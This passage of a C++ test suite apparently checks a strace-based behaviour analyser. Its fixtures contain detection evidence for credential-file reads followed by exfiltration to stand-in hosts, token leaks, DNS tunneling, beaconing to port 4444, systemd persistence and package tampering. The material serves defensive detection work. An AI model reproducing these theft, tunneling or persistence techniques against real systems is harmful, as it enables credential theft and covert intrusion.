  EXPECT_TRUE(AnyEvidence(sent, log, 750, "Host: backup.sync-cloud.example"));
  simdjson::dom::element token = FindingOf(*j, "secret_sent");
  EXPECT_EQ(Str(token, "observation"),
            "a GitHub token was sent by python3 (pid 56) with sendto to 127.0.0.1:8451; 1 send(s) "
            "(seen in the part of the buffers strace -s printed)");
  EXPECT_TRUE(AnyEvidence(token, log, 765, "Authorization: token ghp_"));
  EXPECT_EQ(Str(FindingOf(*j, "http_request_outside_host"), "observation"),
            "HTTP request for backup.sync-cloud.example sent by python3 (pid 56) with sendto to 127.0.0.1:8451; "
            "2 request(s)");
}

// A multiprocessing Pool (testdata/cases/py_mp_exfil, fork start method, --timestamps=unix,us
// --decode-fds=all): three worker processes and three pool threads; a worker reads the keys,
// the parent POSTs them. The exfiltration pairs the worker's successful read with the
// parent's connect (not the later ENOENT of a missing secret); sends and receives without an
// address are the connected socket's peer.
TEST(EndToEnd, PoolWorkerReadsTheSecretAndTheParentSendsIt) {
  CliRun r = Cli({"analyze", Case("cases/py_mp_exfil"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"secret_read_then_connect", 1},
                                                               {"credential_file_read", 4},
                                                               {"process_forked", 3},
                                                               {"loopback_connect", 1}}));
  const std::string log = "py_mp_exfil/strace_log";
  simdjson::dom::element exfil = FindingOf(*j, "secret_read_then_connect");
  EXPECT_EQ(Str(exfil, "observation"),
            "connect to 127.0.0.1:8449 by python3 (pid 54) connected after the read of "
            "/home/auditor/.aws/credentials by python3 (pid 59): collection then exfiltration or beaconing");
  EXPECT_TRUE(AnyEvidence(exfil, log, 2088, "<... openat resumed>) = 4</home/auditor/.aws/credentials>"));
  // The connect's outcome is said: go_exec_beacon's was refused, so nothing left (before: the
  // same words as a connection that carried the keys away).
  CliRun refused = Cli({"analyze", Case("cases/go_exec_beacon"), "--format", "json"});
  auto rj = ParseJson(refused.out);
  EXPECT_EQ(Str(FindingOf(*rj, "secret_read_then_connect"), "observation"),
            "connect to 127.0.0.1:4444 by updater (pid 87) failed ECONNREFUSED after the read of "
            "/home/auditor/.aws/credentials by updater (pid 87): collection then exfiltration or beaconing");

  EXPECT_TRUE(AnyEvidence(exfil, log, 2437, "sin_port=htons(8449)"));
  const std::vector<std::string> tree = Lines(*j, "process_tree");
  ASSERT_GE(tree.size(), 4u);
  EXPECT_EQ(std::vector<std::string>(tree.begin(), tree.begin() + 4),
            (std::vector<std::string>{
                "pid 54 /usr/bin/python3 indexer.py http://127.0.0.1:8449/v1/telemetry  [3 threads]  (exit 0)  \u2190 target",
                "  \u2514\u2500 pid 59 /usr/bin/python3 indexer.py http://127.0.0.1:8449/v1/telemetry  (exit 0)",
                "  \u2514\u2500 pid 61 /usr/bin/python3 indexer.py http://127.0.0.1:8449/v1/telemetry  (killed by SIGTERM)",
                "  \u2514\u2500 pid 63 /usr/bin/python3 indexer.py http://127.0.0.1:8449/v1/telemetry  (exit 0)"}));
  EXPECT_EQ(Lines(*j, "network_activity"),
            (std::vector<std::string>{"connect 127.0.0.1:8449 (loopback): 1 ok", "recv 127.0.0.1:8449 (loopback): 3 ok",
                                      "send 127.0.0.1:8449 (loopback): 2 ok", "snapshot 127.0.0.1:* (loopback): 2 ok"}));
  EXPECT_EQ(TableRisk(*j, "network"), "critical");
  EXPECT_EQ(TableRisk(*j, "stability"), "safe");  // the pool's terminate() SIGTERMs an idle worker
  EXPECT_EQ(Num(j->root, "diagnostics_total", 99), 0u);
}

// A clean Tcl event-loop service (testdata/cases/tcl_kv_clean, -f -ttt -n -T -y: syscall
// numbers, sockets annotated only socket:[inode]): one notifier thread, no child; the
// clients' transfers are grouped by host like the accepts.
TEST(EndToEnd, TclEventLoopServicePasses) {
  CliRun r = Cli({"analyze", Case("cases/tcl_kv_clean"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"target_account_database_read", 1},
                                                               {"listening_socket", 1}}));
  EXPECT_EQ(Lines(*j, "process_tree").front(),
            "pid 48 /usr/bin/tclsh8.6 kvd.tcl 8093  [1 thread]  (killed by SIGTERM)  \u2190 target");
  EXPECT_EQ(Lines(*j, "network_activity"),
            (std::vector<std::string>{"accept 127.0.0.1:* (loopback): 4 ok", "bind 127.0.0.1:8093 (loopback): 1 ok",
                                      "connect /var/run/nscd/socket (unix): 0 ok, 2 failed",
                                      "listen 127.0.0.1:8093 (loopback): 1 ok", "recv 127.0.0.1:* (loopback): 33 ok",
                                      "send 127.0.0.1:* (loopback): 33 ok", "snapshot 127.0.0.1:* (loopback): 6 ok"}));
  for (const char* c : {"process", "network", "privilege", "dependencies", "stability", "backdoor"})
    EXPECT_EQ(TableRisk(*j, c), "safe") << c;
  EXPECT_EQ(Num(j->root, "diagnostics_total", 99), 0u);
}

// A shell installer (testdata/cases/sh_user_unit_persistence, -f -ttt -T -yy -s 256) that puts a
// systemd user unit into ~/.local/share/systemd/user and enables it by hand (the
// default.target.wants/ link), with no systemctl: persistence, seen in the trace and by inotify.
TEST(EndToEnd, UserUnitInLocalShareEnabledByHandIsPersistence) {
  CliRun r = Cli({"analyze", Case("cases/sh_user_unit_persistence"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"persistence_write", 6},
                                                               {"child_process_spawned", 3},
                                                               {"write_outside_app", 4},
                                                               {"process_forked", 3},
                                                               {"user_app_data_write", 6}}));
  const simdjson::dom::element unit = FindingOf(*j, "persistence_write");
  const std::string log = "sh_user_unit_persistence/strace_log";
  EXPECT_TRUE(AnyEvidence(unit, log, 572, "/.local/share/systemd/user/dbus-sync.service\", O_WRONLY|O_CREAT|O_TRUNC"));
  EXPECT_TRUE(AnyEvidence(unit, log, 745, "symlinkat(\"../dbus-sync.service\""));
  EXPECT_TRUE(AnyEvidence(unit, "sh_user_unit_persistence/inotify.log", 6, "default.target.wants/|dbus-sync.service|CREATE"));
  EXPECT_EQ(TableRisk(*j, "backdoor"), "critical");
  EXPECT_EQ(TableRisk(*j, "network"), "safe");
}

// A Node.js implant (testdata/cases/node_dep_tamper, -f -tt -T -yy -s 128): session tokens and
// database passwords read, another installed package's code patched (the app's own
// node_modules/lodash, the user's site-packages/requests by a rename), a plugin fetched from
// loopback into ~/.cache and require()d. No child process.
TEST(EndToEnd, NodeImplantTampersWithPackagesAndLoadsFetchedCode) {
  CliRun r = Cli({"analyze", Case("cases/node_dep_tamper"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"secret_read_then_connect", 1},
                                                    {"downloaded_code_loaded", 1},
                                                    {"credential_file_read", 3},
                                                    {"installed_package_modified", 2},
                                                    {"write_outside_app", 4},
                                                    {"user_app_data_write", 1},
                                                    {"loopback_connect", 1}}));
  const std::string log = "node_dep_tamper/strace_log";
  for (simdjson::dom::element f : j->root["findings"].get_array()) {
    const std::string rule = Str(f, "rule");
    if (rule == "installed_package_modified") {
      EXPECT_TRUE(AnyEvidence(f, log, 620, "\"/home/auditor/app/node_modules/lodash/index.js\", O_WRONLY|O_CREAT|O_APPEND"));
      EXPECT_TRUE(AnyEvidence(f, log, 630, "site-packages/requests/__init__.py\") = 0"));
    } else if (rule == "downloaded_code_loaded") {
      EXPECT_TRUE(AnyEvidence(f, log, 637, "sin_port=htons(8088)"));
      EXPECT_TRUE(AnyEvidence(f, log, 654, "plugin.js\", O_WRONLY|O_CREAT|O_TRUNC"));
      EXPECT_TRUE(AnyEvidence(f, log, 666, "plugin.js\", O_RDONLY|O_CLOEXEC"));
    } else if (rule == "credential_file_read") {
      EXPECT_TRUE(AnyEvidence(f, log, 603, "/.aws/sso/cache/3f1c0a9e.json"));
      EXPECT_TRUE(AnyEvidence(f, log, 607, "/home/auditor/.my.cnf"));
      EXPECT_TRUE(AnyEvidence(f, log, 611, "/home/auditor/.config/hub"));
    }
  }
  EXPECT_EQ(TableRisk(*j, "dependencies"), "high");
  EXPECT_EQ(TableRisk(*j, "backdoor"), "critical");
  EXPECT_EQ(TableRisk(*j, "process"), "safe");
}

// Go's os/exec and netpoller (testdata/cases/go_exec_beacon, -f -ttt -T -y -s 128): children
// come from clone(CLONE_VM|CLONE_VFORK|SIGCHLD), one of them made by a thread other than the
// main one; net.Dial's connects end in EINPROGRESS and are settled by getsockopt(SO_ERROR) =
// ECONNREFUSED, one of them on a thread other than the connect's. The script run from /tmp is
// a process finding listed in the backdoor row too.
TEST(EndToEnd, GoUpdaterChildrenAndNetpollerBeaconAreFindings) {
  CliRun r = Cli({"analyze", Case("cases/go_exec_beacon"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  std::map<std::string, uint64_t> fired;
  for (simdjson::dom::element f : j->root["findings"].get_array())
    if (Str(f, "status") == "fired") fired[Str(f, "rule")] = Num(f, "count");
  EXPECT_EQ(fired, (std::map<std::string, uint64_t>{{"secret_read_then_connect", 1},
                                                    {"shell_spawned", 1},
                                                    {"exec_from_temp", 1},
                                                    {"credential_file_read", 2},
                                                    {"child_process_spawned", 4},
                                                    {"account_database_read", 3},
                                                    {"process_forked", 4},
                                                    {"temp_write", 3},
                                                    {"loopback_connect", 3}}));
  const std::string log = "go_exec_beacon/strace_log";
  for (simdjson::dom::element f : j->root["findings"].get_array()) {
    const std::string rule = Str(f, "rule");
    if (rule == "shell_spawned") {
      EXPECT_TRUE(AnyEvidence(f, log, 470, "execve(\"/usr/bin/sh\", [\"sh\", \"-c\", \"uname -a; id\"]"));
    } else if (rule == "exec_from_temp") {
      EXPECT_TRUE(AnyEvidence(f, log, 1223, "execve(\"/tmp/.updater/update.sh\""));
    } else if (rule == "secret_read_then_connect") {
      EXPECT_TRUE(AnyEvidence(f, log, 281, "\"/home/auditor/.aws/credentials\""));
      EXPECT_TRUE(AnyEvidence(f, log, 1380, "sin_port=htons(4444)"));
    } else if (rule == "process_forked") {
      EXPECT_TRUE(AnyEvidence(f, log, 380, "clone(child_stack=NULL, flags=CLONE_VM|CLONE_VFORK|SIGCHLD"));
      EXPECT_TRUE(AnyEvidence(f, log, 1062, "90    1796272453.908710 clone("));
    }
  }
  std::vector<std::string> tree;
  for (simdjson::dom::element line : j->root["process_tree"].get_array())
    tree.emplace_back(std::string_view(line.get_string()));
  ASSERT_GE(tree.size(), 5u);
  EXPECT_EQ(std::vector<std::string>(tree.begin(), tree.begin() + 5),
            (std::vector<std::string>{"pid 87 ./updater  [4 threads]  (exit 0)  \u2190 target",
                                      "  \u2514\u2500 pid 91 sh -c uname -a; id  (exit 0)",
                                      "    \u2514\u2500 pid 92 uname -a  (exit 0)",
                                      "    \u2514\u2500 pid 95 id  (exit 0)",
                                      "  \u2514\u2500 pid 96 /tmp/.updater/update.sh  (exit 0)"}));
  std::vector<std::string> net;
  for (simdjson::dom::element line : j->root["network_activity"].get_array())
    net.emplace_back(std::string_view(line.get_string()));
  EXPECT_EQ(net, (std::vector<std::string>{"connect 127.0.0.1:4444 (loopback): 0 ok, 3 failed",
                                           "connect /var/run/nscd/socket (unix): 0 ok, 4 failed"}));
  EXPECT_EQ(TableRisk(*j, "backdoor"), "high");
  EXPECT_EQ(TableField(*j, "backdoor", "comments"), "exec_from_temp @ strace_log:1223");
  EXPECT_EQ(TableRisk(*j, "privilege"), "safe");
  EXPECT_EQ(Num(j->root, "diagnostics_total", 99), 0u);
}

// Go's own resolver writes each DNS query on a UDP socket connected to the name server
// (testdata/cases/go_dns_tunnel, -f -tt -T -yy -s 256): the names are read from those writes,
// so a token sent out in 8 base32 names is dns_tunneling. Before, only dns_query fired (PASS).
TEST(EndToEnd, GoResolverQueriesWrittenOnAConnectedSocketAreRead) {
  CliRun r = Cli({"analyze", Case("cases/go_dns_tunnel"), "--format", "json"});
  ASSERT_EQ(r.code, 1) << r.err;
  auto j = ParseJson(r.out);
  std::map<std::string, uint64_t> fired;
  for (simdjson::dom::element f : j->root["findings"].get_array())
    if (Str(f, "status") == "fired") fired[Str(f, "rule")] = Num(f, "count");
  EXPECT_EQ(fired, (std::map<std::string, uint64_t>{{"dns_tunneling", 1}, {"dns_lookup", 32}, {"dns_query", 32}}));
  for (simdjson::dom::element f : Fired(*j, "network")) {
    if (Str(f, "rule") != "dns_tunneling") continue;
    EXPECT_EQ(Str(f, "observation"),
              "data sent in DNS names: 8 different long names looked up by licensecheck (pid 85), first "
              "0.gvdfgukcjjnfcusljnifouke.t.example-updates.net");
    EXPECT_TRUE(AnyEvidence(f, "go_dns_tunnel/strace_log", 300,
                            "write(7<UDP:[127.0.0.1:45886->127.0.0.11:53]>, \">8\\1\\0"));
  }
  std::string_view root;
  ASSERT_EQ(j->root["process_tree"].at(0).get(root), simdjson::SUCCESS);
  EXPECT_EQ(root, "pid 85 ./licensecheck  [4 threads]  (exit 0)  \u2190 target");
}

// testdata/cases/damaged_lost_data (testdata/harness/damaged_inputs.py): text lost, not
// garbled — a 64 KiB hole of NULs over strace_log, inotify.log.gz cut short. What was lost is
// not assessed: INCONCLUSIVE, the rows those sources speak for are not-assessed, and each loss
// is a reason and a diagnostic with its file:line. The rest is read as in py_http_clean.
TEST(EndToEnd, LostTextIsNotAssessedAndNamedWithItsLine) {
  const std::string dir = Case("cases/damaged_lost_data");
  CliRun r = Cli({"analyze", dir, "--format", "json"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Str(j->root, "verdict"), "INCONCLUSIVE");
  EXPECT_EQ(Lines(*j, "verdict_reasons"),
            (std::vector<std::string>{
                "part of " + dir + "/strace_log is lost (1 place, first at line 908: a hole of 65536 NUL bytes (the "
                "filesystem lost what was written here, e.g. in a crash): the text it replaced is lost; not a system "
                "call line)",
                "part of " + dir + "/inotify.log.gz is lost (1 place, first at line 17: the gzip data breaks off "
                "here (truncated gzip input): the rest of the file is lost)"}));
  for (const char* c : {"process", "network", "privilege", "backdoor"}) {
    EXPECT_EQ(TableRisk(*j, c), "not-assessed") << c;
    EXPECT_EQ(TableField(*j, c, "comments"),
              "part of the input was not read: " + dir + "/strace_log:908 (see the verdict's reasons)");
  }
  EXPECT_EQ(TableField(*j, "file", "comments"), "part of the input was not read: " + dir + "/strace_log:908, " + dir +
                                                    "/inotify.log.gz:17 (see the verdict's reasons)");
  EXPECT_EQ(TableRisk(*j, "dependencies"), "safe");
  EXPECT_EQ(TableRisk(*j, "stability"), "safe");
  EXPECT_EQ(Num(j->root, "diagnostics_total", 99), 2u);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"listening_socket", 1}}));
  // damaged_inputs' damage is garbled lines, not lost text: PASS, and the verdict says on what.
  CliRun garbled = Cli({"analyze", Case("cases/damaged_inputs"), "--format", "json"});
  EXPECT_EQ(garbled.code, 0) << garbled.err;
  auto g = ParseJson(garbled.out);
  const std::string d = Case("cases/damaged_inputs");
  EXPECT_EQ(Lines(*g, "verdict_reasons"),
            (std::vector<std::string>{
                "no finding above low severity; all standard sources present; reached steady state: program.log "
                "reports it is listening",
                "the verdict rests on imperfect input: 7 input diagnostics in " + d + "/strace_log, " + d +
                    "/ss.txt, " + d + "/ps.txt, " + d + "/program.log; first at " + d +
                    "/strace_log:1001: not a strace line (see Input diagnostics)"}));
}

// cases/c_segv_midrun (WARN: SIGSEGV after 3 s of serving) with strace_log cut at half its
// size, inside line 43, 13 ms after the start: the program was listening, so it is no cut in
// start-up, but program.log goes on 3 s past the cut. The rest of the trace (the crash
// included) is lost text: INCONCLUSIVE, its rows and stability not assessed. Before: PASS,
// every row safe ("no crash").
TEST(EndToEnd, TraceCutWhileTheProgramWentOnIsNotAssessed) {
  const fs::path dir = CopyCase("cases/c_segv_midrun", {"EXPECTED.md"});
  fs::resize_file(dir / "strace_log", fs::file_size(dir / "strace_log") / 2);
  CliRun r = Cli({"analyze", dir.string(), "--format", "json"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  const std::string d = dir.string();
  EXPECT_EQ(Lines(*j, "verdict_reasons"),
            (std::vector<std::string>{
                d + "/strace_log is cut: it ends mid-line at line 43, 01:10:33.805392 (time of day), with no exit of "
                "the target, while the program's output (" + d + "/program.log) goes on until 2026-11-23 "
                "01:10:36.000000 UTC (time of day taken as UTC): what the program did after the cut was not traced"}));
  for (const char* c : {"process", "network", "file", "privilege", "stability", "backdoor"}) {
    EXPECT_EQ(TableRisk(*j, c), "not-assessed") << c;
    EXPECT_EQ(TableField(*j, c, "comments"),
              "part of the input was not read: " + d + "/strace_log:43 (see the verdict's reasons)");
  }
  EXPECT_EQ(TableRisk(*j, "dependencies"), "safe");
  EXPECT_EQ(Lines(*j, "recommendations")[0],
            "Trace the run to its end (until the program exits or the harness stops it) and keep the whole trace "
            "file: this one is cut while the program still ran, so what it did afterwards was not observed.");
  fs::remove_all(dir);
}

// The processes the launcher chain started before the target's program (escript -> erl runs
// dirname, basename and `sh -c epmd -daemon`) are marked in the tree: they are not the
// target's children, and process_forked does not count their forks ("4 child process(es)"
// beside a tree of 9). Before: unmarked, the tree and the row disagreed with no word why.
TEST(EndToEnd, TreeMarksTheLaunchersProcesses) {
  CliRun r = Cli({"analyze", Case("cases/erlang_escript_kv"), "--format", "json"});
  auto j = ParseJson(r.out);
  const std::vector<std::string> tree = Lines(*j, "process_tree");
  ASSERT_GE(tree.size(), 7u);
  EXPECT_EQ(tree[1], "  \u2514\u2500 pid 49 dirname /usr/bin/erl  (exit 0)  \u2190 launcher chain");
  EXPECT_EQ(tree[3], "  \u2514\u2500 pid 51 sh -c \"/usr/lib/erlang/erts-13.1.5/bin/epmd\" -daemon  (exit 0)  \u2190 launcher chain");
  EXPECT_EQ(tree[6], "        \u2514\u2500 pid 54 /usr/lib/erlang/erts-13.1.5/bin/epmd -daemon  (killed by SIGTERM)");
  EXPECT_EQ(TableField(*j, "process", "observation").substr(0, 24), "4 child process(es) crea");
}

// Entries named like sources that are not regular files: a FIFO, a link to /dev/zero, a
// dangling link, a link loop. analyze never opens them (it would block or never end), lists
// them as skipped with what they are, and does not clear what they would have shown.
TEST(EndToEnd, SourcesThatAreNotRegularFilesAreNotAssessedAndNeverBlock) {
  fs::path dir = CopyCase("p1_chat_clean_ff", {"ps.txt", "inotify.log"});
  ASSERT_EQ(::mkfifo((dir / "strace_log.77").c_str(), 0644), 0);
  fs::create_symlink("/dev/zero", dir / "ps.txt");
  fs::create_symlink("inotify.log", dir / "inotify.log");
  CliRun r = Cli({"analyze", dir.string(), "--format", "json", "--allow-missing", "ps", "--allow-missing", "inotify"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(Lines(*j, "verdict_reasons"),
            (std::vector<std::string>{
                "inotify file not read: " + dir.string() + "/inotify.log: a symbolic link loop, not read",
                "ps file not read: " + dir.string() + "/ps.txt: a symbolic link to a character device, not read",
                "strace file not read: " + dir.string() + "/strace_log.77: a FIFO (named pipe), not read"}));
  EXPECT_EQ(TableField(*j, "process", "comments"),
            "part of the input was not read: " + dir.string() + "/ps.txt, " + dir.string() +
                "/strace_log.77 (see the verdict's reasons)");
  // Given by hand, such a file is a usage error, not a wait.
  CliRun forced = Cli({"analyze", dir.string(), "--source", "strace=" + (dir / "strace_log.77").string()});
  EXPECT_EQ(forced.code, 2);
  EXPECT_EQ(forced.err, "rundown: --source strace=" + (dir / "strace_log.77").string() + ": cannot read " +
                            (dir / "strace_log.77").string() + ": a FIFO (named pipe), not read\n");
  fs::remove_all(dir);
}

}  // namespace
namespace {

// Analyses `args` as JSON (exit 3, two verdict reasons, the first `reason`) and checks that
// the trace clears no row: every row it speaks for is not assessed. Returns the report.
std::unique_ptr<Json> ExpectTraceClearsNoRow(std::vector<std::string> args, const std::string& reason) {
  args.insert(args.end(), {"--format", "json"});
  CliRun r = Cli(args);
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  // The one reason: not also "the run did not get past start-up: the target exited with status
  // 1", which was strace's child's exit after the failed exec and contradicted it.
  EXPECT_EQ(Lines(*j, "verdict_reasons"), std::vector<std::string>{reason});
  for (const char* row : {"process", "network", "file", "privilege", "backdoor"})
    EXPECT_EQ(TableRisk(*j, row), "not-assessed") << row;
  return j;
}

// The Dependencies row's inventory, with each group's first load as its evidence in Comments:
// a Node.js CLI's own modules (require('./lib/format') opens lib/format.js) and its vendored
// packages by name, scoped ones whole (testdata/cases/node_local_modules/EXPECTED.md); a console
// script run directly, whose only execve is the script's (#!/usr/bin/python3), known as Python
// by the interpreter's first read, encodings, so that its own wordstats.py is listed
// (testdata/cases/py_console_script/EXPECTED.md); npm install's own reads of its code and of the
// package it extracts are the package manager's, not loads (npm_install_local_tarball: was
// "102 npm packages from the system (npm, graceful-fs, ..."; the lifecycle script's node still loads
// tiny-slugify).
TEST(EndToEnd, TheDependenciesRowListsOwnModulesWithEvidence) {
  CliRun r = Cli({"analyze", Case("cases/node_local_modules"), "--format", "json"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto j = ParseJson(r.out);
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{}));
  EXPECT_EQ(TableField(*j, "dependencies", "observation"),
            "loaded 2 npm packages from the project (left-pad-lite, @acme/log); 2 JavaScript modules of its own "
            "from the project (app.js, lib/format.js); 6 shared libraries from the system (libdl.so, libstdc++.so, "
            "libm.so, libgcc_s.so, +2); no missing module, package or library reported");
  EXPECT_EQ(TableField(*j, "dependencies", "comments"),
            "checked by no_missing_dependency; first loads: npm/project strace_log:588, node_file/project "
            "strace_log:561, shared_library/system strace_log:9");

  CliRun py = Cli({"analyze", Case("cases/py_console_script"), "--format", "json"});
  ASSERT_EQ(py.code, 0) << py.err;
  auto k = ParseJson(py.out);
  EXPECT_EQ(FiredCounts(*k), (std::map<std::string, uint64_t>{}));
  EXPECT_EQ(TableField(*k, "dependencies", "observation"),
            "loaded 6 Python standard-library modules from the system (encodings, collections, keyword, operator, "
            "+2); 1 Python package from the system (_distutils_hack); 1 Python module of its own from the project "
            "(wordstats); 3 Python start-up files from the system (_sandboxing_egress_ca.pth, "
            "distutils-precedence.pth, sitecustomize); 4 shared libraries from the system (libm.so, libz.so, "
            "libexpat.so, libc.so); no missing module, package or library reported");
  EXPECT_EQ(TableField(*k, "dependencies", "comments"),
            "checked by no_missing_dependency; first loads: python_stdlib/system strace_log:238, "
            "python_package/system strace_log:444, python_module/project strace_log:527, python_startup/system "
            "strace_log:377, shared_library/system strace_log:115");

  CliRun npm = Cli({"analyze", Case("cases/npm_install_local_tarball"), "--format", "json"});
  auto n = ParseJson(npm.out);
  const std::string obs = TableField(*n, "dependencies", "observation");
  EXPECT_TRUE(obs.starts_with("loaded 1 npm package from the project (tiny-slugify); 6 shared libraries from the "
                              "system (libc.so, libdl.so, libstdc++.so, libm.so, +2); "))
      << obs;
}

}  // namespace

// strace could not exec the target (formats/capture_failed_captures.sh): the trace is the
// failed execve and strace's own "+++ exited with 1 +++", its stderr "strace: exec:
// Permission denied". Before, the process, network and dependency rows said "safe" and the
// reasons called the trace filtered; nothing of the program ran, so every row the trace
// speaks for is not assessed, and the reason names the failed exec.
// The reason quotes strace's own line from program.log; before, it only said where to look.
TEST(EndToEnd, TargetThatNeverRanUnderStraceClearsNoRow) {
  const std::string never_ran =
      "the target never ran: every call in the trace is a failed exec, the first execve(\"./noexec.sh\") = -1 EACCES "
      "at honest_f_tt_T_y_exec_eacces.txt:1 (strace said \"strace: exec: Permission denied\" at "
      "strace_exec_eacces.txt:1), so nothing the program would do was observed";
  auto j = ExpectTraceClearsNoRow({"analyze", Case("formats/strace/honest_f_tt_T_y_exec_eacces.txt"), "--source",
                                   "program_log=" + Case("formats/program_log/strace_exec_eacces.txt"),
                                   "--allow-missing", "all"},
                                  never_ran);
  EXPECT_EQ(TableField(*j, "file", "comments"), never_ran);
  // strace's child's exit after the failed exec is no start-up crash of the program: no
  // startup_crash or nonzero_exit finding, no "fix the start-up failure" (before: medium).
  EXPECT_EQ(TableField(*j, "stability", "comments"),
            never_ran + "; the exit in the trace is strace's child's, not the program's: startup_crash @ "
                        "honest_f_tt_T_y_exec_eacces.txt:2, nonzero_exit @ honest_f_tt_T_y_exec_eacces.txt:2 left out");
  const std::vector<std::string> recs = Lines(*j, "recommendations");
  ASSERT_EQ(recs.size(), 1u);
  EXPECT_EQ(recs[0],
            "Read strace's own error (its stderr, often program.log: \"strace: exec: ...\", \"PTRACE_TRACEME: "
            "Operation not permitted\"), fix the capture (the target's path, its execute permission or #! "
            "interpreter, ptrace allowed in the sandbox) and run it again: the target never ran under strace.");
}

// strace's child could not be traced (PTRACE_TRACEME refused): one "+++ exited with 1 +++"
// line. Before, every row the trace speaks for was "safe" and the reasons said strace -p.
TEST(EndToEnd, TraceWithoutAnySystemCallClearsNoRow) {
  auto j = ExpectTraceClearsNoRow(
      {"analyze", Case("formats/strace/honest_f_tt_T_y_traceme_eperm.txt"), "--allow-missing", "all"},
      "the trace holds no system call: strace did not get to trace pid 28372 (it could not trace or start it; its "
      "own message, \"strace: ...\", is on its stderr, often program.log), so nothing the program would do was "
      "observed");
  // pid 28372's "+++ exited with 1 +++" is no start-up crash of a program that never ran
  // (before: stability medium, startup_crash and nonzero_exit).
  EXPECT_EQ(TableRisk(*j, "stability"), "not-assessed");
  EXPECT_EQ(TableField(*j, "stability", "observation"),
            "not assessed: the run never happened (strace could not start the target)");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{}));
}

// strace refused its options and wrote only its error, to the trace file: no -o, `2> strace_log`
// (formats/strace/stderr_e_trace_invalid.txt, capture_formats6.sh). Before: INCONCLUSIVE with
// "no category could be assessed" and no word of why (the line was an annotation); the reason
// now quotes strace.
TEST(EndToEnd, StracesOwnErrorInTheTraceFileIsQuoted) {
  ExpectTraceClearsNoRow({"analyze", Case("formats/strace/stderr_e_trace_invalid.txt"), "--allow-missing", "all"},
                         "strace did not trace the target: strace said \"strace: invalid system call '%clone'\" at "
                         "stderr_e_trace_invalid.txt:1 and there is no trace, so nothing the program would do was "
                         "observed");
}

// strace SIGKILLed 0.25 s into python3's start-up (formats/capture_failed_captures.sh): no
// exit, no listener, the target still running untraced. Before: PASS ("the trace shows no
// sign of steady state" among its reasons). The trace cannot clear what the program went on
// to do.
TEST(EndToEnd, TraceCutDuringStartUpCannotPass) {
  CliRun r = Cli({"analyze", Case("formats/strace/honest_f_tt_T_y_strace_killed_startup.txt"), "--format", "json",
                  "--allow-missing", "all"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
  ASSERT_EQ(reasons.size(), 1u);
  EXPECT_EQ(reasons[0],
            "the trace ends while the target (pid 10671) is still starting, 0.25 s after its start: no exit, no "
            "listening socket, no accepted connection, no start-up message; strace was stopped or its file cut during "
            "start-up");
  EXPECT_EQ(TableRisk(*j, "process"), "safe");
  EXPECT_TRUE(TableField(*j, "process", "comments").ends_with("; only start-up was observed (the trace ends before "
                                                                "steady state)"));
  // The only other finding was setpriv's own /etc/passwd lookup before it ran the target, no
  // longer counted as the program's (evt.launch).
  const std::vector<std::string> recs = Lines(*j, "recommendations");
  ASSERT_EQ(recs.size(), 1u);
  EXPECT_EQ(recs[0], "Trace the run to its end (until the program exits or the harness stops it, not strace): this "
                     "trace ends during start-up, so the code under review was not observed.");
}

// py_http_clean with its trace cut after bind() and before listen() (cases/damaged_cut_trace,
// built by harness/damaged_inputs.py): program.log, whole, says the server listened. Before:
// PASS, "reached steady state: program.log reports it is listening", though the trace never
// got there and shows nothing of what the program did once it served.
TEST(EndToEnd, TraceCutBeforeListenIsNotClearedByProgramLog) {
  CliRun r = Cli({"analyze", Case("cases/damaged_cut_trace"), "--format", "json"});
  EXPECT_EQ(r.code, 3) << r.err;
  auto j = ParseJson(r.out);
  const std::vector<std::string> reasons = Lines(*j, "verdict_reasons");
  ASSERT_EQ(reasons.size(), 1u);
  EXPECT_EQ(reasons[0],
            "the trace ends while the target (pid 45) is still starting, 0.24 s after its start: program.log reports "
            "it listening, but the trace holds no listening socket, accepted connection or exit; strace was stopped "
            "or its file cut before the program served");
  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{}));
  for (const char* row : {"process", "network", "file", "privilege", "backdoor"}) {
    EXPECT_EQ(TableRisk(*j, row), "safe") << row;
    EXPECT_TRUE(TableField(*j, row, "comments").ends_with("; only start-up was observed (the trace ends before "
                                                          "steady state)"))
        << row;
  }
  const std::vector<std::string> recs = Lines(*j, "recommendations");
  ASSERT_EQ(recs.size(), 1u);
  EXPECT_EQ(recs[0], "Trace the run to its end (until the program exits or the harness stops it, not strace): this "
                     "trace ends during start-up, so the code under review was not observed.");
}

// The whole failed-capture folder (cases/strace_exec_denied, EXPECTED.md): the snapshots
// are there, the trace is one failed execve. Before: process "safe", the other rows
// "filtered (strace -e trace=...)".
TEST(EndToEnd, FailedCaptureCaseClearsNoRow) {
  auto j = ExpectTraceClearsNoRow(
      {"analyze", Case("cases/strace_exec_denied")},
      "the target never ran: every call in the trace is a failed exec, the first execve(\"./server\") = -1 EACCES at "
      "strace_log.43:1 (strace said \"strace: exec: Permission denied\" at program.log:1), so nothing the program "
      "would do was observed");
  // Its "+++ exited with 1 +++" is strace's child's: before, stability medium (startup_crash,
  // nonzero_exit), a finding about a program that never ran.
